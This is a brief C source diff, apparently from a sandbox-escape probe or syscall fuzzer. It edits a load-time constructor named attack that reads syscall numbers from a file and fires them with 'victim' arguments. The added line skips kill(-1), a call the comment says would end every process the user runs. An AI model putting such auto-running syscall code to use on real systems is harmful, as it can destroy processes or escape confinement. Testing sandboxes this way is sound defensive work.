@@ -96,6 +96,8 @@ __attribute__((constructor)) static void attack(void) {
       words[count] = count == 0 ? call(word) : value(word, victim), count++;
     // What the memory holds differs from call to call: the victim's number, and small numbers.
     for (size_t i = 0; i < 64; i++) ((int *)memory)[i] = i % 3 == 0 ? (int)victim : (int)((i + (size_t)words[0]) % 16);
+    // Where the walls had a hole, that would end all that the user runs; the others are enough to see it.
+    if (words[0] == SYS_kill && words[1] == -1) continue;
     if (count > 0 && words[0] >= 0) syscall(words[0], words[1], words[2], words[3], words[4], words[5], words[6]);
   }
   fclose(file);
